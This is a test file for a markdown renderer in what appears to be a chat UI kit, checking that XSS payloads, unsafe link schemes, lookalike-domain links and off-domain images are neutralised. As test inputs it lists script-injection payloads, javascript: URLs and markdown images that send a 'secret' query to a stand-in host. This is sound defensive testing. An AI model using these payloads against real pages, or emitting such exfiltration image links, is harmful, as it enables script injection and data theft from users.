// @vitest-environment happy-dom
import naughty from 'big-list-of-naughty-strings';
import { describe, expect, test } from 'vitest';
import { parseDeeplink, safeHref, safeImageSource } from '../../src/markdown/links.ts';
import { MarkdownStream } from '../../src/markdown/stream.ts';
import { rendered as render } from './rendering.ts';

function rendered(source: string, imageDomains: string[] = []): HTMLElement {
  return render(source, { imageDomains });
}

const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>@import url(https://evil.example)</style>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '<javascript:alert(1)>',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/?q=secret)',
  '![x][1]\n\n[1]: https://evil.example/?q=secret',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '[x](https://ok.example "\\" onmouseover=alert(1) x=\\"")',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
];

describe('a payload stays inert', () => {
  test.each(payloads)('%j', (payload) => {
    const node = rendered(payload);
    expect(node.querySelector('script, style, iframe, svg, object, embed, form, link, base, img')).toBeNull();
    for (const element of node.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^(?:on|style$|srcdoc$|id$|name$)/);
        if (name === 'href') expect(value).toMatch(/^(?:https?:|mailto:|tel:|chatkit-link:)/);
      }
    }
  });

  test('raw HTML is shown as the text it is', () => {
    expect(rendered('a <b>bold</b> move').textContent).toBe('a <b>bold</b> move');
  });

  test.each(naughty)('naughty string %#', (text) => {
    const node = rendered(text);
    expect(node.querySelector('script, style, iframe, svg, object, embed, form, link, base, img')).toBeNull();
    for (const link of node.querySelectorAll('a')) expect(link.href).toMatch(/^(?:https?:|mailto:|tel:|chatkit-link:)/);
  });

  test('nesting is bounded, however it is written', () => {
    for (const source of ['>'.repeat(5000) + 'x', '- '.repeat(5000) + 'x', '> - '.repeat(3000) + 'x', '**a _b '.repeat(2000)]) {
      expect(rendered(source).textContent?.length).toBeGreaterThan(0);
    }
    expect(rendered('>'.repeat(5000) + 'x').querySelectorAll('blockquote').length).toBeLessThan(40);
  });
});

describe('links', () => {
  test('open apart from the page and tell it nothing', () => {
    const link = rendered('[x](https://example.com/a)').querySelector('a');
    expect(link?.target).toBe('_blank');
    expect(link?.rel).toBe('noopener noreferrer');
  });

  test.each([
    ['[the docs](https://docs.example/a)', 'the docs', 'docs.example'],
    ['[the docs](https://docs.example/a "Guide")', 'the docs', 'Guide\ndocs.example'],
    ['[docs.example/a](https://docs.example/b)', 'docs.example/a', ''],
    ['https://www.docs.example/a', 'https://www.docs.example/a', ''],
    ['[README.md](https://git.example/x)', 'README.md', 'git.example'],
    ['[Node.js](https://runtime.example)', 'Node.js', 'runtime.example'],
    ['[here](/account)', 'here', ''],
    ['[write](mailto:a@b.example)', 'write', 'a@b.example'],
  ])('say where they lead: %s', (source, text, title) => {
    const link = rendered(source).querySelector('a');
    expect(link?.textContent).toBe(text);
    expect(link?.title).toBe(title);
  });

  test.each([
    ['[bank.example](https://evil.example)', 'bank.example (evil.example)'],
    ['[https://bank.example/login](https://evil.example)', 'https://bank.example/login (evil.example)'],
    ['[**bank.example**](https://evil.example)', 'bank.example (evil.example)'],
    ['[www.bank.example](https://bank.example.evil.example)', 'www.bank.example (bank.example.evil.example)'],
    ['<https://bank.example@evil.example>', 'https://bank.example@evil.example (evil.example)'],
    ['[a@bank.example](mailto:a@evil.example)', 'a@bank.example (a@evil.example)'],
    ['[bаnk.example](https://bank.example)', 'bаnk.example (bank.example)'],
  ])('name their host where the text names another: %s', (source, text) => {
    expect(rendered(source).querySelector('a')?.textContent).toBe(text);
  });

  test('of allowed schemes only', () => {
    expect(safeHref('mailto:a@b.example')).toBe('mailto:a@b.example');
    expect(safeHref('chatkit-link://go?x=1')).toMatch(/^chatkit-link:/);
    expect(safeHref('file:///etc/passwd')).toBeNull();
    expect(safeHref('blob:https://x.example/1')).toBeNull();
  });

  test('of the app carry a name and data', () => {
    expect(parseDeeplink('chatkit-link://open-order?id=7&tab=a%20b')).toEqual({ name: 'open-order', data: { id: '7', tab: 'a b' } });
    expect(parseDeeplink('https://example.com')).toBeNull();
  });
});

describe('pictures', () => {
  test('are fetched from allowed places only', () => {
    expect(safeImageSource('https://cdn.example/a.png', ['cdn.example'])).toBe('https://cdn.example/a.png');
    expect(safeImageSource('https://a.cdn.example/a.png', ['*.cdn.example'])).not.toBeNull();
    expect(safeImageSource('https://evilcdn.example/a.png', ['*.cdn.example', 'cdn.example'])).toBeNull();
    expect(safeImageSource('https://user@cdn.example/a.png', ['cdn.example'])).toBeNull();
    expect(safeImageSource('data:image/png;base64,AAAA')).not.toBeNull();
    expect(safeImageSource('data:image/svg+xml;base64,AAAA')).toBeNull();
  });

  test('from elsewhere become links', () => {
    const node = rendered('![Chart](https://elsewhere.example/chart.png)');
    expect(node.querySelector('img')).toBeNull();
    expect(node.querySelector('a')?.textContent).toBe('Chart');
  });

  test('never send a referrer', () => {
    const image = rendered('![Chart](https://cdn.example/c.png)', ['cdn.example']).querySelector('img');
    expect(image?.getAttribute('referrerpolicy') ?? image?.referrerPolicy).toBe('no-referrer');
  });
});

describe('annotation marks', () => {
  test('become superscripts behind the word at their index', () => {
    const marks = [{ index: 6, label: '1', title: 'Guide', href: 'https://example.com/g' }];
    const stream = new MarkdownStream({ marks });
    stream.update('Hello world, again', false);
    expect(stream.node.innerHTML).toMatch(/^<p>Hello world,<sup><a [^>]*>1<\/a><\/sup> again<\/p>$/);
  });
});
